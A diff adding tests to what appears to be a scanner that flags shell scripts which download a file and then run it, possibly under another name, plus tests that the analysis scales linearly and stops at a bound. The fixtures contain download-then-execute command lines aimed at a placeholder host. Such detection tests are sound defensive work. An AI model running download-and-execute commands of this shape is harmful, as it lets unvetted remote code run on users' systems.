@@ -25,6 +25,7 @@ from modelaudit.languages.instructions import list_command_texts, read_instructi
 from modelaudit.languages.package_sources import LOCK_FILES, SCRIPT_SOURCES
 from modelaudit.languages.python.cells import split_cell
 from modelaudit.languages.python.magic_aliases import MagicAliases
+from modelaudit.languages.shell import path_index
 from modelaudit.languages.shell.command import Command
 from modelaudit.languages.shell.downloads import DownloadTracker
 from modelaudit.languages.shell.executed_files import find_executed_files
@@ -36,6 +37,7 @@ from modelaudit.model.limits import Limits
 from modelaudit.model.outline import RUN_FILE, Outline, Reference, ReferenceKind, References
 from modelaudit.model.report import ArtifactRecord, Extent
 from modelaudit.model.structure import UnreadReason
+from modelaudit.wire.base import LimitReachedError
 
 
 @pytest.mark.parametrize(
@@ -776,6 +778,39 @@ def test_hostile_text_is_analysed_in_work_in_proportion_to_its_length(
     analyze: Callable[[str], object], start: str, piece: str
 ) -> None:
     assert find_growth_fault(lambda count: count_work(lambda: analyze(start + piece * count)), 400) == ""
+
+
+@check_each(
+    "download, run",
+    [
+        ("curl a.invalid/{0} | split - p{0}_", "./q{0}x"), ("curl a.invalid/{0} -o p{0}", "sh ./q{0}*"),
+        ("curl a.invalid/{0} -o p{0}", "mv q{0} r{0}"), ("curl a.invalid/{0} | tar x -C d{0}", "./q{0}/x.sh"),
+        ("curl a.invalid/{0} -o p{0}.py", "python q{0}.py"), ("curl a.invalid/{0} -o p{0}.py", "python -c 'import q{0}'"),
+    ],
+)  # fmt: skip
+def test_downloads_and_runs_of_a_script_are_compared_in_work_in_proportion_to_their_number(
+    download: str, run: str
+) -> None:
+    def build_script(count: int) -> str:
+        return "\n".join(line.format(number) for line in (download, run) for number in range(count))
+
+    assert find_growth_fault(lambda count: count_lines(lambda: _find_shell_mentions(build_script(count))), 400) == ""
+
+
+def test_wildcards_compared_with_more_downloads_than_a_bound_leave_the_script_partly_read(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    script = "".join(f"curl a.invalid/{number} -o p{number}\n" for number in range(50)) + "sh ./*q\n" * 10
+    assert list(collect_script_mentions(script)) == []
+    monkeypatch.setattr(path_index, "_MOST_LISTED_PATHS", 120)
+    with pytest.raises(LimitReachedError, match="was not followed"):
+        list(collect_script_mentions(script))
+
+
+@pytest.mark.parametrize("run", ["sh ./p1*", "sh ./*1", "mv d e; sh e/f", "sh q_aa"])
+def test_download_that_a_command_runs_under_another_name_is_reported(run: str) -> None:
+    script = f"curl a.invalid/1 -o p1\ncurl a.invalid/2 -o d/f\ncurl a.invalid/3 | split - q_\n{run}\n"
+    assert "download-then-run" in {each.use for each in collect_script_mentions(script)}
 
 
 @check_each(
